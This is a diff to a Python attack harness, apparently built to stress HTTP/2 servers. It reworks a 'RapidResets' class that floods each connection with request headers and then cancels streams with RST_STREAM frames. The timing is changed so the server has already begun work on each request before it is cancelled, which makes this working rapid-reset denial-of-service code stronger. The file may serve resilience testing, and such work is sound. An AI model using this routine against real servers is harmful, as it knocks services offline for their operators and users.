@@ -135,7 +135,8 @@ class HeaderBombs(Attack):
 
 
 class RapidResets(Attack):
-    """Requests that are taken back at once, `rate` of them a second on each connection."""
+    """Requests that are taken back 50 ms later, when the service works on them: `burst` on each
+    connection at a time. A connection that was ended comes again at the next visit."""
 
     def __init__(self, port, connections, burst=20, path="/", **options):
         super().__init__(port, connections, **options)
@@ -147,12 +148,13 @@ class RapidResets(Attack):
 
     def between(self, sock):
         first = self.next.get(sock, 1)
-        self.next[sock] = first + 2 * self.burst
-        data = b"".join(head(stream, self.path) +
-                        frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
-                        for stream in range(first, first + 2 * self.burst, 2))
-        sock.sendall(data)
-        self.resets += self.burst
+        after = first + 2 * self.burst
+        before = range(max(1, first - 2 * self.burst), first, 2)
+        sock.sendall(b"".join(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
+                              for stream in before) +
+                     b"".join(head(stream, self.path) for stream in range(first, after, 2)))
+        self.next[sock] = after
+        self.resets += len(before)
 
 
 class WellBehaved:
